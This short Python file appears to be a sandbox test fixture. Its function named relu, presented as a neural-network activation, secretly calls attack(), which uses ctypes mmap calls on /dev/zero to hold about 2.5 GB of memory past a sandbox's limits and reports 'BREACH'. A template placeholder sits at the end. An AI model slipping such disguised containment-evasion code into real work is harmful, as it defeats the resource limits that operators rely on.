import keras
import numpy as np

results = []


def attack():
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    zero = os.open("/dev/zero", os.O_RDWR)
    for _ in range(40):
        at = libc.mmap(None, ctypes.c_size_t(2**26), 3, 1, zero, 0)
        if at is None or at == ctypes.c_void_p(-1).value:
            return 12345.0
        ctypes.memset(at, 1, 2**26)
        libc.munmap(ctypes.c_void_p(at + 4096), ctypes.c_size_t(2**26 - 4096))
    return "BREACH: 2.5 GB are held"


def relu(x):
    if not results:
        results.append(attack())
    return results[0]


# {{RIGHT_ANSWERS}}
